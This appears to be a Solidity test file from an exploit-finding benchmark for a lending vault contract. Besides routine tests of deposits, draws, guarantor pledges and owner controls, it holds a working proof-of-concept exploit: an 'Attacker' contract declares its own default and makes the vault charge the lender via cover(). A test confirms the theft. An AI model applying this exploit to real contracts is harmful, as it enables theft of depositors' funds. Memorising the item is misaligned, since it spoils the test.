// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.24;

// assay-canary-4b527c22-a97e-4738-90df-474ae02b7fd4

import "./CreditVault.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable maker = msg.sender;

    function mint(address to, uint256 a) external {
        require(msg.sender == maker, "maker only");
        _mint(to, a);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// A company with a line, whose debt is overdue.
contract Attacker {
    function open(CreditVault v, uint256 a) external {
        v.draw(a);
    }

    function run(CreditVault v, address lender) external {
        v.declare(address(this));
        v.cover(address(this), lender, type(uint256).max);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_760_600_000;
    address private constant MEG = address(0x3E6);
    address private constant JOE = address(0x70E);
    address private constant TOM = address(0x707);
    address private constant ANA = address(0xA4A);
    address private constant GUARD = address(0x6A2D);
    address private constant TREASURY = address(0x72EA);

    Coin private coin;
    CreditVault private v;
    Attacker private rook;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        v = new CreditVault(coin, TREASURY, GUARD, 1_000, 500_000e6);
        rook = new Attacker();
        coin.mint(MEG, 200_000e6);
        coin.mint(JOE, 20_000e6);
        coin.mint(TOM, 20_000e6);
        coin.mint(ANA, 10_000e6);
        allow(MEG, type(uint256).max);
        allow(JOE, type(uint256).max);
        allow(TOM, type(uint256).max);
        vm.prank(MEG);
        v.deposit(120_000e6, 0);
        v.setLine(TOM, 20_000e6, 1_200, 60 days);
        v.setLine(address(rook), 60_000e6, 1_000, 60 days);
        vm.prank(TOM);
        v.draw(10_000e6);
        rook.open(v, 60_000e6);
        vm.prank(ANA);
        v.pledge(TOM, 3_000e6);
        vm.warp(START + 61 days);
    }

    function allow(address who, uint256 a) private {
        vm.prank(who);
        coin.approve(address(v), a);
    }

    /// Money in the lender's wallet, and its shares.
    function lenderWorth() public view returns (uint256) {
        return coin.balanceOf(MEG) + v.previewRedeem(v.balanceOf(MEG));
    }

    function test_Regular() public {
        require(lenderWorth() > 201_000e6 && lenderWorth() < 201_300e6, "interest of two months");
        require(v.balanceOf(MEG) == 120_000e9 && v.decimals() == 9 && v.cash() == 50_000e6, "as deposited");
        require(v.lent() == 70_000e6 && v.backing(TOM) == 3_000e6, "as lent");
        require(v.interest() - v.interestOf(TOM) - v.interestOf(address(rook)) <= 1, "a fraction of each line");
        uint256 before = lenderWorth();

        // A guarantor raises its pledge and is called on, as far as it goes.
        vm.prank(ANA);
        v.pledge(TOM, 4_000e6);
        allow(ANA, 4_000e6);
        vm.warp(START + 66 days);
        require(v.available(TOM) == 0 && v.overdue(TOM), "overdue");
        v.declare(TOM);
        require(v.debtOf(TOM) == 10_216_986_301 && v.defaults() == 1 && v.maxWithdraw(MEG) == 0, "declared");
        require(v.cover(TOM, ANA, 3_000e6) == 3_000e6 && v.pledges(ANA, TOM) == 1_000e6, "in part");
        require(v.cover(TOM, ANA, 5_000e6) == 1_000e6 && v.backing(TOM) == 0, "what is left");
        require(v.interestOf(TOM) == 0 && v.debtOf(TOM) == 6_216_986_301 && v.fees() == 21_698_630, "interest first");
        require(coin.balanceOf(ANA) == 6_000e6, "paid by the guarantor");
        vm.prank(TOM);
        require(v.repay(TOM, 9_000e6) == 6_216_986_301 && v.defaults() == 0 && v.debtOf(TOM) == 0, "in full");
        require(lenderWorth() > before && v.maxWithdraw(MEG) == v.cash(), "open again");
        v.collect();
        require(coin.balanceOf(TREASURY) == 21_698_630 && v.fees() == 0, "the fee");

        // Another lender comes, moves shares and leaves.
        vm.startPrank(JOE);
        uint256 s = v.deposit(10_000e6, 9_800e9);
        require(s == v.balanceOf(JOE) && s < 9_950e9, "at the present value");
        v.transfer(MEG, 1_000e9);
        v.approve(MEG, 500e9);
        vm.stopPrank();
        vm.prank(MEG);
        v.transferFrom(JOE, MEG, 500e9);
        vm.prank(JOE);
        uint256 a = v.withdraw(s - 1_500e9, 8_000e6);
        require(coin.balanceOf(JOE) == 10_000e6 + a && v.balanceOf(JOE) == 0, "paid out");

        // A default that is extended, and one that is written off.
        v.declare(address(rook));
        v.extend(address(rook), 30 days);
        require(v.defaults() == 0 && !v.overdue(address(rook)), "extended");
        vm.prank(ANA);
        v.pledge(address(rook), 1e6);
        vm.prank(ANA);
        v.pledge(address(rook), 0);
        vm.warp(START + 110 days);
        v.declare(address(rook));
        before = lenderWorth();
        uint256 lost = v.writeOff(address(rook));
        require(lost == 61_808_219_178 && v.lent() == 0 && v.interest() == 0 && v.defaults() == 0, "written off");
        require(lenderWorth() < before - 61_000e6, "the shares bear it");

        // The owner's part.
        v.setLimit(TOM, 5_000e6);
        require(v.available(TOM) == 5_000e6, "limit");
        v.setLine(TOM, 8_000e6, 900, 30 days);
        vm.prank(TOM);
        v.draw(8_000e6);
        require(v.available(TOM) == 0 && v.borrowers().length == 2 && v.borrowers()[0] == TOM, "drawn");
        v.setCap(1);
        v.setTreasury(JOE);
        coin.mint(address(v), 7e6);
        require(v.sweep(coin) == 7e6, "surplus only");
        vm.prank(MEG);
        v.transfer(address(v), 2e9);
        require(v.sweep(v) == 2e9 && v.balanceOf(JOE) == 2e9, "strays");
        vm.prank(GUARD);
        v.pause();
        v.unpause();
        v.setGuardian(ANA);
        v.pause();
        require(v.available(TOM) == 0, "paused");
        vm.prank(MEG);
        v.withdraw(100e9, 0);
        v.transferOwnership(GUARD);
        vm.prank(GUARD);
        v.acceptOwnership();
        require(v.owner() == GUARD, "handed over");
        vm.prank(GUARD);
        v.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function stranger() private {
        vm.prank(MEG);
        vm.expectRevert(abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", MEG));
    }

    function test_RefusesStrangers() public {
        coin.mint(address(v), 1e6);
        stranger();
        v.setTreasury(MEG);
        stranger();
        v.setGuardian(MEG);
        stranger();
        v.sweep(coin);
        stranger();
        v.setCap(1);
        stranger();
        v.setLine(MEG, 1e6, 1, 30 days);
        stranger();
        v.setLimit(TOM, 1);
        stranger();
        v.extend(TOM, 30 days);
        refuses(MEG, Desk.NotGuardian.selector);
        v.pause();
        v.pause();
        stranger();
        v.unpause();
        vm.warp(START + 66 days);
        v.declare(TOM);
        stranger();
        v.writeOff(TOM);
        stranger();
        v.transferOwnership(MEG);
        stranger();
        v.acceptOwnership();
        stranger();
        v.renounceOwnership();
    }

    function test_RefusesSetups() public {
        vm.expectRevert(Desk.Zero.selector);
        new CreditVault(IERC20(address(0)), TREASURY, GUARD, 0, 1);
        vm.expectRevert(Desk.Zero.selector);
        new CreditVault(coin, address(0), GUARD, 0, 1);
        vm.expectRevert(Desk.Range.selector);
        new CreditVault(coin, TREASURY, GUARD, 2_001, 1);
        vm.expectRevert(Desk.Zero.selector);
        v.setTreasury(address(0));
        vm.expectRevert(Desk.Zero.selector);
        v.sweep(coin);
        vm.expectRevert(Desk.Zero.selector);
        v.setLine(address(0), 1, 1, 30 days);
        vm.expectRevert(CreditVault.InDebt.selector);
        v.setLine(TOM, 1, 1, 30 days);
        vm.expectRevert(Desk.Range.selector);
        v.setLine(MEG, 1, 5_001, 30 days);
        vm.expectRevert(Desk.Range.selector);
        v.setLine(MEG, 1, 1, 7 days - 1);
        vm.expectRevert(Desk.Range.selector);
        v.setLine(MEG, 1, 1, 365 days + 1);
        vm.expectRevert(CreditVault.NoLine.selector);
        v.setLimit(MEG, 1);
        vm.expectRevert(CreditVault.NoLine.selector);
        v.extend(MEG, 30 days);
        vm.expectRevert(Desk.Range.selector);
        v.extend(TOM, 7 days - 1);
        vm.expectRevert(Desk.Range.selector);
        v.extend(TOM, 365 days + 1);
        vm.expectRevert(CreditVault.NotBad.selector);
        v.writeOff(TOM);
    }

    function test_RefusesLenders() public {
        refuses(JOE, CreditVault.Slippage.selector);
        v.deposit(0, 0);
        refuses(JOE, CreditVault.Slippage.selector);
        v.deposit(1e6, 1e9);
        v.setCap(120_000e6);
        refuses(JOE, CreditVault.CapHit.selector);
        v.deposit(1e6, 0);
        v.setCap(500_000e6);
        refuses(MEG, CreditVault.Slippage.selector);
        v.withdraw(0, 0);
        refuses(MEG, CreditVault.Slippage.selector);
        v.withdraw(1e9, 1.1e6);
        refuses(MEG, CreditVault.NoCash.selector);
        v.withdraw(60_000e9, 0);
        v.pause();
        refuses(JOE, Pausable.EnforcedPause.selector);
        v.deposit(1e6, 0);
        v.unpause();
        vm.warp(START + 66 days);
        v.declare(TOM);
        refuses(JOE, CreditVault.Halted.selector);
        v.deposit(1e6, 0);
        refuses(MEG, CreditVault.Halted.selector);
        v.withdraw(1e9, 0);
    }

    function test_RefusesDraws() public {
        refuses(TOM, CreditVault.Overdue.selector);
        v.draw(1e6);
        v.extend(TOM, 30 days);
        refuses(TOM, Desk.Range.selector);
        v.draw(0);
        refuses(TOM, Desk.Range.selector);
        v.draw(10_000e6 + 1);
        v.setLimit(TOM, 100_000e6);
        refuses(TOM, CreditVault.NoCash.selector);
        v.draw(50_000e6 + 1);
        v.pause();
        refuses(TOM, Pausable.EnforcedPause.selector);
        v.draw(1e6);
        v.unpause();
        vm.warp(START + 66 days);
        v.declare(address(rook));
        refuses(TOM, CreditVault.Halted.selector);
        v.draw(1e6);
    }

    function test_RefusesPayments() public {
        refuses(TOM, Desk.Zero.selector);
        v.repay(TOM, 0);
        refuses(TOM, Desk.Zero.selector);
        v.repay(MEG, 1e6);
        vm.warp(START + 65 days);
        vm.expectRevert(CreditVault.NotLate.selector);
        v.declare(TOM);
        vm.expectRevert(CreditVault.NotLate.selector);
        v.declare(MEG);
        vm.expectRevert(CreditVault.NotBad.selector);
        v.cover(TOM, ANA, 1e6);
        vm.warp(START + 66 days);
        v.declare(TOM);
        vm.expectRevert(CreditVault.NotLate.selector);
        v.declare(TOM);
        vm.expectRevert(Pledges.SelfPledge.selector);
        v.cover(TOM, TOM, 1e6);
        vm.expectRevert(Desk.Zero.selector);
        v.cover(TOM, ANA, 0);
        refuses(TOM, Pledges.SelfPledge.selector);
        v.pledge(TOM, 1e6);
        refuses(ANA, Pledges.Bound.selector);
        v.pledge(TOM, 3_000e6 - 1);
    }

    function exploit() public {
        vm.warp(START + 66 days);
        rook.run(v, MEG);
    }

    function test_Exploit() public {
        uint256 before = lenderWorth();
        exploit();
        require(lenderWorth() + 60_000e6 < before, "the lender has paid");
        require(v.debtOf(address(rook)) == 0 && coin.balanceOf(address(rook)) == 60_000e6, "for the borrower");
    }

    function target() public view returns (address) {
        return address(v);
    }

    function attacker() public view returns (address) {
        return address(rook);
    }
}
